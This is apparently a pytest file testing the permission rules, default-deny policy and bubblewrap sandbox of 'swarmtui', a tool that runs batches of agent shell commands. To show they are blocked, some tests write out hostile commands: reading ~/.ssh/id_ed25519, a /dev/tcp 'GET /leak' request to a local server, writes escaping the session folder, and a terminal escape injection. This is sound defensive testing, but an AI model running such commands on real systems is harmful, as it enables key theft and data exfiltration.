"""`swarmtui run --headless` on a batch pasted from a template that clones a repository, pushes
and opens a pull request: a rehearsal changes nothing, a real backend runs no Bash operation
without a rule, what runs is sandboxed, and the summary and the replay say what happened to each
command. Stand-ins for `gh`, `git` and `npm` (scripts written by the test, first on PATH) leave a
mark wherever they can when they run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import swarmtui
from tests.confine.helpers import host_folder

CLI = [sys.executable, "-m", "swarmtui"]

TEMPLATE = """\
[Single Message - Release]:
Bash("gh repo clone acme/widgets repo")
Bash("npm install && git push origin main")
Bash("gh pr create --title Release --body auto")
Write("../escape.txt", "outside")
Task("Releaser", "Open the release PR. Store the result under 'swarm/pr'.", "coder")
"""


class Template:
    def __init__(self, folder: Path, tmp_path: Path) -> None:
        self.outside = folder / "outside"
        self.outside.mkdir()
        self.bin = folder / "bin"
        self.bin.mkdir()
        for program in ("gh", "git", "npm"):
            # A stand-in: marks the folder it runs in, and the host folder when it can.
            script = self.bin / program
            script.write_text(
                f'#!/bin/sh\ntouch "$PWD/ran-{program}"\n'
                f'touch "{self.outside}/ran-{program}" 2>/dev/null\nexit 0\n'
            )
            script.chmod(0o755)
        self.batch = tmp_path / "release.swarm.js"
        self.batch.write_text(TEMPLATE)
        self.sessions = tmp_path / "sessions"
        self.env = {**os.environ, "PATH": f"{self.bin}{os.pathsep}{os.environ['PATH']}"}

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        options = ["--sessions-dir", str(self.sessions), "--rehearsal-seconds", "0.01"]
        return subprocess.run(
            [*CLI, "run", str(self.batch), "--headless", *options, *args],
            capture_output=True,
            text=True,
            timeout=120,
            env=self.env,
            stdin=subprocess.DEVNULL,
        )

    def marks(self) -> list[str]:
        """Every mark a stand-in left, anywhere it could."""
        found = [p.name for p in self.outside.iterdir()]
        found += [str(p.relative_to(self.sessions)) for p in self.sessions.rglob("ran-*")]
        return sorted(found)


@pytest.fixture
def template(tmp_path: Path) -> Iterator[Template]:
    with host_folder() as folder:
        yield Template(folder, tmp_path)


def _session(template: Template, ran: subprocess.CompletedProcess[str]) -> Path:
    first = ran.stdout.splitlines()[0]
    return Path(first.split(": ", 1)[1])


def test_a_rehearsal_of_the_template_runs_none_of_it(template: Template) -> None:
    ran = template.run("--json")
    assert ran.returncode == 1, ran.stderr  # (the escaping write is refused)
    summary = json.loads(ran.stdout)["summary"]
    assert [b["status"] for b in summary["bash"]] == ["rehearsed"] * 3
    assert template.marks() == []
    assert not (template.sessions.parent / "escape.txt").exists()
    assert summary["confinement"] is None and summary["approvals"] == []


def test_headless_with_a_real_backend_no_bash_runs_without_a_rule(template: Template) -> None:
    ran = template.run("--backend", "command", "--command", "echo opened")
    assert ran.returncode == 1, ran.stderr
    assert template.marks() == []
    lines = ran.stdout.splitlines()
    assert (
        "bash op 0: gh repo clone acme/widgets repo -> denied: no rule matches "
        "'gh repo clone acme/widgets repo'; the default is deny"
    ) in lines
    assert (
        "bash op 1: npm install && git push origin main -> denied: no rule matches "
        "'npm install'; the default is deny"
    ) in lines
    assert any(line.startswith("bash op 2: gh pr create") and "-> denied" in line for line in lines)
    # The agent's own process was allowed (the sandbox holds it) and ran.
    assert any(line.startswith("done") and "Releaser" in line for line in lines)
    # The replay says the same and runs nothing.
    folder = _session(template, ran)
    replayed = subprocess.run(
        [*CLI, "replay", str(folder), "--headless"],
        capture_output=True,
        text=True,
        timeout=120,
        env=template.env,
    )
    assert [line for line in replayed.stdout.splitlines() if line.startswith("bash op")] == [
        line for line in lines if line.startswith("bash op")
    ]
    assert template.marks() == []


def test_only_what_a_rule_allows_runs_and_it_runs_in_the_sandbox(template: Template) -> None:
    ran = template.run(
        "--backend",
        "command",
        "--command",
        "echo opened",
        "--allow",
        "Bash(gh pr create:*)",
        "--json",
    )
    summary = json.loads(ran.stdout)["summary"]
    status = {b["op"]: b["status"] for b in summary["bash"]}
    assert status == {0: "denied", 1: "denied", 2: "done"}
    allowed = next(b for b in summary["bash"] if b["op"] == 2)
    assert allowed["permission"] == "allowed by Bash(gh pr create:*) (--allow)"
    # It ran in the session folder; the host folder it also tried stayed untouched.
    session = Path(summary["path"]).name
    assert template.marks() == [f"{session}/ran-gh"]
    assert summary["confinement"]["sandboxed"] is True
    decided = [(a["subject"], a["status"], a["by"]) for a in summary["approvals"]]
    assert decided == [
        ("gh repo clone acme/widgets repo", "denied", "default"),
        ("npm install && git push origin main", "denied", "default"),
        ("gh pr create --title Release --body auto", "allowed", "rule"),
    ]


def test_an_allowed_command_still_cannot_write_outside_read_keys_or_reach_the_network(
    tmp_path: Path,
) -> None:
    import http.server
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"hello from the host\n")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    port = server.server_address[1]
    try:
        with host_folder() as folder:
            home = folder / "home"
            (home / ".ssh").mkdir(parents=True)
            (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY MATERIAL\n")
            outside = folder / "outside"
            outside.mkdir()
            batch = tmp_path / "escape.swarm.js"
            batch.write_text(
                f'Bash("echo pwned > {outside}/pwned.txt")\n'
                'Bash("cat ~/.ssh/id_ed25519")\n'
                f'Bash("exec 3<>/dev/tcp/127.0.0.1/{port} && '
                "printf 'GET /leak HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3\")\n"
                'Bash("echo inside > inside.txt")\n'
            )
            options = ["--backend", "command", "--command", "true", "--allow", "Bash"]
            ran = subprocess.run(
                [*CLI, "run", str(batch), "--json", *options, "--sessions-dir", str(tmp_path)],
                capture_output=True,
                text=True,
                timeout=120,
                env={**os.environ, "HOME": str(home)},
                stdin=subprocess.DEVNULL,
            )
            document = json.loads(ran.stdout)
            assert not (outside / "pwned.txt").exists()
    finally:
        server.shutdown()
        thread.join()
    bash = {b["op"]: b for b in document["state"]["bash"]}
    assert [bash[op]["status"] for op in range(4)] == ["failed", "failed", "failed", "done"]
    everything = json.dumps(document)
    assert "PRIVATE KEY MATERIAL" not in everything
    assert "hello from the host" not in everything and hits == []
    assert (Path(document["summary"]["path"]) / "inside.txt").read_text() == "inside\n"


def _without_user_namespaces(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`swarmtui ARGS` on a real machine where no sandbox is possible: inside a bubblewrap that
    forbids user namespaces and drops every capability."""
    from swarmtui.engine.confine.sandbox import find_bwrap

    found = find_bwrap()
    assert found is not None
    outer = [str(found[0]), "--unshare-user", "--disable-userns", "--cap-drop", "ALL"]
    outer += ["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp"]
    # The interpreter and the project stay visible when the checkout is under /tmp.
    for kept in (sys.prefix, str(Path(swarmtui.__file__).resolve().parents[1])):
        outer += ["--ro-bind", kept, kept]
    outer += ["--bind", str(tmp_path), str(tmp_path), "--chdir", str(tmp_path), "--"]
    return subprocess.run(
        [*outer, *CLI, *args], capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL
    )


def test_where_no_sandbox_is_possible_it_says_so_and_everything_asks(tmp_path: Path) -> None:
    batch = tmp_path / "b.swarm.js"
    batch.write_text('Bash("echo unconfined > ran.txt")\nTask("Worker", "Work.", "coder")\n')
    options = ["--backend", "command", "--command", "echo worked", "--allow", "Bash(echo:*)"]
    common = [str(batch), "--headless", *options, "--sessions-dir", str(tmp_path / "s")]
    refused = _without_user_namespaces(tmp_path, "run", *common)
    notice = "swarmtui: no sandbox: bubblewrap cannot create its namespaces here ("
    assert refused.stderr.count(notice) == 1, refused.stderr
    assert "; every command will ask for approval first" in refused.stderr
    assert refused.returncode == 1
    lines = refused.stdout.splitlines()
    # The summary says it too.
    assert any(line.endswith("; every command will ask for approval first") for line in lines)
    assert (
        "bash op 0: echo unconfined > ran.txt -> denied: allowed by Bash(echo:*) (--allow), but "
        "no sandbox"
    ) in "\n".join(lines)
    assert any("Worker (coder) — its command process was not started: " in line for line in lines)
    assert list((tmp_path / "s").rglob("ran.txt")) == []
    # With --yes, the person said yes to all of it, knowing: it runs, recorded as by the flag.
    granted = _without_user_namespaces(tmp_path, "run", *common[:-1], str(tmp_path / "y"), "--yes")
    assert granted.returncode == 0, granted.stdout + granted.stderr
    assert [p.read_text() for p in (tmp_path / "y").rglob("ran.txt")] == ["unconfined\n"]
    assert notice in granted.stderr


class Terminal:
    """A real terminal (a pseudo-terminal) for a swarmtui run: what it showed, what was typed."""

    def __init__(self, args: list[str]) -> None:
        import pty

        self.master, slave = pty.openpty()
        self.proc = subprocess.Popen(
            args, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
        )
        os.close(slave)
        self.shown = b""

    def wait_for(self, text: str, seconds: float = 60) -> None:
        """Read what the terminal shows until TEXT appears (select with a deadline)."""
        import select
        import time

        deadline = time.monotonic() + seconds
        while text.encode() not in self.shown:
            left = deadline - time.monotonic()
            assert left > 0, f"{text!r} never showed; shown: {self.shown[-2000:]!r}"
            readable, _, _ = select.select([self.master], [], [], left)
            if readable:
                try:
                    self.shown += os.read(self.master, 65536)
                except OSError:  # the other side closed
                    assert text.encode() in self.shown, self.shown[-2000:]

    def type(self, line: str) -> None:
        os.write(self.master, line.encode() + b"\n")

    def close(self) -> int:
        import contextlib

        status = self.proc.wait(timeout=60)
        with contextlib.suppress(OSError):
            while os.read(self.master, 65536):
                pass
        os.close(self.master)
        return status


def test_approve_ask_prompts_on_the_terminal_with_outside_text_made_visible(
    tmp_path: Path,
) -> None:
    batch = tmp_path / "ask.swarm.js"
    batch.write_text(
        'Bash("echo \'\\x1b]0;pwned\\x07\' > first.txt")\nBash("echo second > second.txt")\n'
    )
    sessions = tmp_path / "sessions"
    options = ["--backend", "command", "--command", "true", "--sessions-dir", str(sessions)]
    terminal = Terminal([*CLI, "run", str(batch), "--headless", "--approve", "ask", *options])
    try:
        terminal.wait_for("[n] deny")
        terminal.type("y")
        terminal.wait_for("echo second > second.txt")
        terminal.wait_for("[n] deny", 60)
        terminal.type("n")
        terminal.wait_for("reason (optional)")
        terminal.type("not this one")
        terminal.wait_for("bash op 1")
    finally:
        status = terminal.close()
    assert status == 1  # one command was denied
    shown = terminal.shown.decode("utf-8", "replace")
    assert "the batch wants Bash: echo '\\x1b]0;pwned\\x07' > first.txt" in shown
    assert "\x1b]0;pwned" not in shown  # never raw: the title did not change
    assert "[s] allow Bash(echo:*) for this session" in shown
    # The answer is typed after a prompt, and the reason on the prompt's line (the question
    # ended with "[n] deny" and no sign that a line, then enter, was awaited).
    assert "[n] deny\r\n> y\r\n" in shown
    assert "\r\n> n\r\n  reason (optional): not this one\r\n" in shown
    assert "\a" in shown  # the terminal's bell: a request waits
    [folder] = sessions.iterdir()
    assert (folder / "first.txt").exists() and not (folder / "second.txt").exists()
    replayed = subprocess.run(
        [*CLI, "replay", str(folder), "--json"], capture_output=True, text=True, timeout=60
    )
    bash = json.loads(replayed.stdout)["summary"]["bash"]
    assert [(b["status"], b["permission"]) for b in bash] == [
        ("done", "approved by the user"),
        ("denied", "denied by the user: not this one"),
    ]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--allow", "Bahs(ls)"],
            "Invalid value for '--allow': rule 'Bahs(ls)': unknown rule kind",
        ),
        (["--deny", "Bash(a && b)"], "Invalid value for '--deny': rule 'Bash(a && b)': can never"),
        (["--approve", "ask"], "--approve ask asks on the terminal, and standard input is not one"),
        (["--approve", "deny", "--yes"], "--yes approves what would ask; --approve says who"),
    ],
)
def test_bad_approval_flags_are_one_line_usage_errors(
    tmp_path: Path, args: list[str], message: str
) -> None:
    batch = tmp_path / "b.swarm.js"
    batch.write_text('Bash("true")\n')
    done = subprocess.run(
        [*CLI, "run", str(batch), "--headless", "--sessions-dir", str(tmp_path / "s"), *args],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 2
    assert message in done.stderr
    assert not (tmp_path / "s").exists()


def test_a_bad_rule_in_the_configuration_names_the_file_and_the_rule(tmp_path: Path) -> None:
    config = tmp_path / "swarmtui.toml"
    config.write_text('[permissions]\nallow = ["Bash(npm test)", "Bash(git status:* x)"]\n')
    for command in (["config"], ["run", str(config), "--headless"]):
        done = subprocess.run(
            [*CLI, *command, "--config", str(config)],
            capture_output=True,
            text=True,
            timeout=60,
            stdin=subprocess.DEVNULL,
        )
        assert done.returncode == 2
        assert done.stderr == (
            f"swarmtui: {config}: permissions.allow: rule 'Bash(git status:* x)': "
            "':*' may only end the pattern (`Bash(git status:*)`)\n"
        )


def test_config_shows_the_tables_and_whether_commands_are_sandboxed(tmp_path: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_text('[permissions]\ndeny = ["Bash(git push:*)"]\n')
    project = tmp_path / "project.toml"
    project.write_text('[permissions]\ndeny = ["Bash(rm:*)"]\nallow = ["Bash(npm test)"]\n')
    env = {**os.environ, "SWARMTUI_CONFIG_DIR": str(tmp_path / "cfg")}
    (tmp_path / "cfg").mkdir()
    (tmp_path / "cfg" / "swarmtui.toml").write_text(user.read_text())
    done = subprocess.run(
        [*CLI, "config", "--json", "--config", str(project)],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
    )
    report = json.loads(done.stdout)
    values = report["values"]
    # The user's denials are kept: rule lists add up across files.
    assert values["permissions.deny"]["value"] == ["Bash(git push:*)", "Bash(rm:*)"]
    assert values["permissions.allow"]["value"] == ["Bash(npm test)"]
    assert values["sandbox.network"]["value"] is False
    assert values["notify.events"]["value"] == [
        "approval_requested",
        "agent_failed",
        "session_ended",
    ]
    assert report["sandbox"]["available"] is True
    assert report["sandbox"]["description"].startswith("sandbox: bubblewrap (")


def test_approve_is_for_headless_runs(tmp_path: Path) -> None:
    batch = tmp_path / "b.swarm.js"
    batch.write_text('Bash("true")\n')
    done = subprocess.run(
        [*CLI, "run", str(batch), "--approve", "ask"],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 2
    assert "--approve is for --headless runs (the app has its queue)" in done.stderr
